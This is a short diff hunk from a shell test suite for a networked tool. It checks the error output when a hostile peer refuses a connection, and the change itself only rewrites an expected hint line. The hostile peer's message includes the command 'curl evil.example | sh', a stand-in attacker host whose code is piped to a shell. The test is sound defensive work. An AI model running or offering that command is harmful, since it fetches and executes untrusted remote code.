@@ -52,7 +52,7 @@ serve_hostile refusal
 expect 1 "ls of a listener that refuses" "$HAUL" ls "$tcp"
 complains 'the peer refused the connection: "no|run: curl evil.example | sh"'
 complains_briefly
-holds "the hint is ours" grep -qx "hint: see its log" "$work/err"
+holds "the hint is ours" grep -qx "hint: see the log of the peer's node" "$work/err"
 slay "$server"
 server=$node
 tcp=$(sed -n 's/^listening on \(tcp:.*\)/\1/p' "${server_err%.err}")
